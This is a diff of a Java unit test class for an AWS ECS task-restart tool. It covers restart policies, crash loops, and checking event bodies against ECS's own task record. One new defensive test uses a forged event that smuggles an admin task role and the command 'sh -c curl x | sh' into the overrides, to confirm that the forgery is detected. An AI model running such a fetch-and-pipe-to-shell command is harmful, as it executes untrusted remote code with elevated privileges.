@@ -33,19 +33,29 @@ class TaskStopDecisionTest {
         return new CrashLoop.Count(stops, stops);
     }
 
-    private TaskStopDecision.Plan standalone(Diagnosis diagnosis, Map<String, String> tags, boolean restartsEnabled) {
-        return TaskStopDecision.forStandaloneTask(standalone, diagnosis, tags, restartsEnabled, count(1), LOOP);
+    private TaskStopPlan standalone(Diagnosis diagnosis, Map<String, String> tags, boolean restartsEnabled) {
+        return TaskStopDecision.forStandaloneTask(standalone, diagnosis, record(tags), restartsEnabled, count(1), LOOP);
+    }
+
+    /** ECS's record of the sample's stopped task, saying what the event says, with these tags; null for none. */
+    private EcsTaskRecord record(Map<String, String> tags) {
+        return tags == null ? null : record(standalone, "STOPPED", tags);
+    }
+
+    private static EcsTaskRecord record(TaskStopEvent e, String lastStatus, Map<String, String> tags) {
+        return new EcsTaskRecord(e.taskArn(), e.clusterArn(), lastStatus, e.stoppedAt(), e.taskDefinitionArn(), e.group(), e.launchType(),
+                e.capacityProviderName(), e.platformVersion(), e.subnetIds(), EcsTaskRecord.replayable(e.overrides()), tags);
     }
 
     @Test
     void serviceTasksAreOnlyReportedAndLouderWhenLooping() {
         assertFalse(TaskStopDecision.forServiceTask(new Diagnosis(StopCause.DEPLOYMENT, "", null), CrashLoop.Count.NONE, LOOP).tellPeople());
-        TaskStopDecision.Plan first = TaskStopDecision.forServiceTask(CRASH, count(1), LOOP);
+        TaskStopPlan first = TaskStopDecision.forServiceTask(CRASH, count(1), LOOP);
         assertTrue(first.tellPeople());
         assertEquals(Severity.WARNING, first.severity());
         assertNull(first.restart());
         assertFalse(TaskStopDecision.forServiceTask(CRASH, count(2), LOOP).tellPeople());
-        TaskStopDecision.Plan looping = TaskStopDecision.forServiceTask(CRASH, count(3), LOOP);
+        TaskStopPlan looping = TaskStopDecision.forServiceTask(CRASH, count(3), LOOP);
         assertTrue(looping.tellPeople());
         assertEquals(Severity.CRITICAL, looping.severity());
         assertTrue(looping.action().contains("3 abnormal stops within 15 minutes (threshold 3), 3 in a row"), looping.action());
@@ -55,7 +65,7 @@ class TaskStopDecisionTest {
 
     @Test
     void onFailureRestartsWithTheSameTaskAndTheCountIncremented() {
-        TaskStopDecision.Plan plan = standalone(CRASH,
+        TaskStopPlan plan = standalone(CRASH,
                 tags("tidewatch:restart", "on-failure:3", "tidewatch:restart-count", "1", "team", "data", "aws:ecs:clusterName", "prod"), true);
         RestartRequest restart = plan.restart();
         assertEquals(Severity.WARNING, plan.severity());
@@ -97,8 +107,8 @@ class TaskStopDecisionTest {
 
     @Test
     void aCrashLoopingFamilyIsNotRestartedAgain() {
-        TaskStopDecision.Plan plan = TaskStopDecision.forStandaloneTask(standalone, CRASH,
-                tags("tidewatch:restart", "on-failure"), true, count(3), LOOP);
+        TaskStopPlan plan = TaskStopDecision.forStandaloneTask(standalone, CRASH,
+                record(tags("tidewatch:restart", "on-failure")), true, count(3), LOOP);
         assertNull(plan.restart());
         assertEquals(Severity.CRITICAL, plan.severity());
         assertTrue(plan.action().contains("crash-looping, 3 abnormal stops within 15 minutes"), plan.action());
@@ -110,7 +120,7 @@ class TaskStopDecisionTest {
 
     @Test
     void noPolicyMeansNoRestart() {
-        TaskStopDecision.Plan plan = standalone(CRASH, tags(), true);
+        TaskStopPlan plan = standalone(CRASH, tags(), true);
         assertNull(plan.restart());
         assertTrue(plan.tellPeople());
         assertTrue(plan.action().contains("no restart policy"));
@@ -119,7 +129,7 @@ class TaskStopDecisionTest {
 
     @Test
     void anExhaustedPolicyIsCritical() {
-        TaskStopDecision.Plan plan = standalone(CRASH,
+        TaskStopPlan plan = standalone(CRASH,
                 tags("tidewatch:restart", "on-failure:3", "tidewatch:restart-count", "3"), true);
         assertNull(plan.restart());
         assertEquals(Severity.CRITICAL, plan.severity());
@@ -128,14 +138,14 @@ class TaskStopDecisionTest {
 
     @Test
     void restartsDisabledForTheFunctionMeansNoRestartAndSaysSo() {
-        TaskStopDecision.Plan plan = standalone(CRASH, tags("tidewatch:restart", "always"), false);
+        TaskStopPlan plan = standalone(CRASH, tags("tidewatch:restart", "always"), false);
         assertNull(plan.restart());
         assertTrue(plan.action().contains("ENABLE_TASK_RESTARTS=false"));
     }
 
     @Test
     void alwaysRestartsACompletedTaskQuietlyButNeverAUserStop() {
-        TaskStopDecision.Plan completed = standalone(COMPLETED, tags("tidewatch:restart", "always"), true);
+        TaskStopPlan completed = standalone(COMPLETED, tags("tidewatch:restart", "always"), true);
         assertEquals(Severity.INFO, completed.severity());
         assertEquals(1, completed.restart().restartNumber());
         assertNull(standalone(USER_STOP, tags("tidewatch:restart", "always"), true).restart());
@@ -143,7 +153,7 @@ class TaskStopDecisionTest {
 
     @Test
     void aBadPolicyTagIsReportedNotGuessed() {
-        TaskStopDecision.Plan plan = standalone(CRASH, tags("tidewatch:restart", "sometimes"), true);
+        TaskStopPlan plan = standalone(CRASH, tags("tidewatch:restart", "sometimes"), true);
         assertNull(plan.restart());
         assertTrue(plan.tellPeople());
         assertTrue(plan.action().contains("must be no, on-failure"));
@@ -152,15 +162,47 @@ class TaskStopDecisionTest {
     @Test
     void awsvpcTasksNeedTheirSecurityGroupsTagged() {
         Map<String, String> noGroups = new LinkedHashMap<>(Map.of("tidewatch:restart", "on-failure"));
-        TaskStopDecision.Plan plan = standalone(CRASH, noGroups, true);
+        TaskStopPlan plan = standalone(CRASH, noGroups, true);
         assertNull(plan.restart());
         assertTrue(plan.action().contains(TaskStopDecision.SECURITY_GROUPS_TAG));
     }
 
     @Test
     void aTaskEcsNoLongerKnowsIsNotRestarted() {
-        TaskStopDecision.Plan plan = standalone(CRASH, null, true);
+        TaskStopPlan plan = standalone(CRASH, null, true);
         assertNull(plan.restart());
         assertTrue(plan.action().contains("restart policy is unknown"));
+    }
+
+    @Test
+    void aForgedBodyIsToldAndTheRestartIsBuiltFromEcsRecord() {
+        TaskStopEvent forged = SampleEvents.event(SampleEvents.variant("ecs-standalone-task-crashed.json", d -> {
+            d.put("taskDefinitionArn", "arn:aws:ecs:eu-west-1:123456789012:task-definition/admin-tools:1");
+            d.put("overrides", Map.of("containerOverrides", List.of(Map.of("name", "report", "command", List.of("sh", "-c", "curl x | sh"))),
+                    "taskRoleArn", "arn:aws:iam::123456789012:role/admin"));
+        }));
+        EcsTaskRecord ecs = record(standalone, "STOPPED", tags("tidewatch:restart", "on-failure:3"));
+        TaskStopPlan plan = TaskStopDecision.forStandaloneTask(forged, CRASH, ecs, true, count(1), LOOP);
+        assertEquals(standalone.taskDefinitionArn(), plan.restart().taskDefinition());
+        assertEquals(standalone.overrides(), plan.restart().overrides());
+        assertTrue(plan.tellPeople());
+        assertTrue(plan.action().contains("disagrees with ECS's record of the task on taskDefinitionArn, overrides"), plan.action());
+        assertEquals(List.of(), ecs.mismatches(standalone), "the sample's body says what ECS says");
+    }
+
+    @Test
+    void aTaskEcsReportsRunningOrStoppedAtAnotherTimeIsNotRestarted() {
+        Map<String, String> always = tags("tidewatch:restart", "always");
+        TaskStopPlan running = TaskStopDecision.forStandaloneTask(standalone, CRASH, record(standalone, "RUNNING", always), true, count(1), LOOP);
+        assertNull(running.restart());
+        assertTrue(running.tellPeople());
+        assertTrue(running.action().contains("ECS reports the task RUNNING, not STOPPED"), running.action());
+
+        TaskStopEvent otherStop = SampleEvents.event(SampleEvents.variant("ecs-standalone-task-crashed.json",
+                d -> d.put("stoppedAt", "2026-11-24T08:00:00Z")));
+        TaskStopPlan earlier = TaskStopDecision.forStandaloneTask(otherStop, CRASH, record(standalone, "STOPPED", always), true, count(1), LOOP);
+        assertNull(earlier.restart());
+        assertTrue(earlier.action().contains("ECS records the task stopped at 2026-11-24T09:41:06.512Z, not at 2026-11-24T08:00:00Z"),
+                earlier.action());
     }
 }
